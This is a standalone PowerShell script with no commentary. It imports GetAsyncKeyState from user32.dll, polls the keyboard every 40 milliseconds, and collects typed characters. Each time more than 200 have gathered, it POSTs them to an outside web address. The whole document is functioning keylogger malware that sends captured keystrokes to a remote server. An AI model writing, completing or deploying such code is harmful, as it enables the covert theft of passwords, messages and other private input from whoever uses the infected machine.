$signature = '[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int key);'
$api = Add-Type -MemberDefinition $signature -Name Keys -Namespace Win32 -PassThru
while ($true) {
  Start-Sleep -Milliseconds 40
  for ($k = 8; $k -le 254; $k++) {
    if ($api::GetAsyncKeyState($k) -eq -32767) { $typed += [char]$k }
  }
  if ($typed.Length -gt 200) {
    Invoke-RestMethod -Uri 'https://keys.host-of-nobody.net/in' -Method Post -Body $typed
    $typed = ''
  }
}
